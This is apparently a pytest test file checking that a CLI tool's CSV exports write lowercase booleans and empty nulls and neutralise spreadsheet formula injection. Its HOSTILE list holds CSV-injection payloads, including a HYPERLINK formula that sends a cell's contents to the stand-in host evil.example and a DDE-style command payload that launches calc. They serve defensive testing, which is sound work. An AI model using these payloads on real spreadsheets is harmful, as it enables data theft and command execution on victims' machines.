"""Every CSV lpsectl writes: lowercase true/false, empty for null, and no cell a spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0",
           "+62 812 0000", "-2+3", "\tindented", "\rreturn"]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_list_csv_writes_lowercase_booleans_and_empty_nulls(run):
    run.new("-c", "kotak-saran", "-s", "lama", "--at", "2025-01-06T09:00")
    run.new("-c", "kotak-saran", "-m", "tanpa perihal", "--at", "2025-01-07T09:00")
    table = rows(run.ok("list", "--csv"))
    header, body = table[0], table[1:]
    overdue = header.index("overdue")
    subject = header.index("subject")
    assert [r[overdue] for r in body] == ["true", "true"]
    assert body[1][subject] == ""


def test_list_csv_and_report_csv_write_booleans_alike(run):
    tid = run.new("-c", "kotak-saran", "-s", "baru", "--at", "2025-01-06T09:00")
    run.ok("answer", tid, "-m", "ok", "--at", "2025-01-06T10:00")
    listing = rows(run.ok("list", "--all", "--csv"))
    report = rows(run.ok("report", "--month", "2025-01", "--format", "csv"))
    words = {c for r in listing[1:] + report[1:] for c in r if c.lower() in ("true", "false")}
    assert words and words <= {"true", "false"}


@pytest.mark.parametrize("text", HOSTILE)
def test_list_csv_neutralises_a_formula_in_a_subject(run, text):
    run.new("-c", "kotak-saran", "-s", text, "--at", "2025-01-06T09:00")
    table = rows(run.ok("list", "--csv"))
    cell = table[1][table[0].index("subject")]
    assert cell == "'" + text


@pytest.mark.parametrize("text", HOSTILE[:2])
def test_report_csv_neutralises_a_formula_in_a_category(run, text):
    run.new("-c", "kotak-saran", "-s", "x", "--category", text, "--at", "2025-01-06T09:00")
    report = rows(run.ok("report", "--month", "2025-01", "--format", "csv"))
    assert all(not c.startswith(("=", "@", "+", "-", "\t", "\r")) for r in report for c in r)
    assert ["by_category", "'" + text, "1"] in report


def test_report_csv_keeps_negative_and_plain_numbers_as_numbers(run):
    from lpsectl.csvcells import cell

    assert cell(-3) == "-3" and cell(2.5) == "2.5" and cell(None) == "" and cell(True) == "true"
    assert cell("Budi") == "Budi" and cell("a=b") == "a=b"
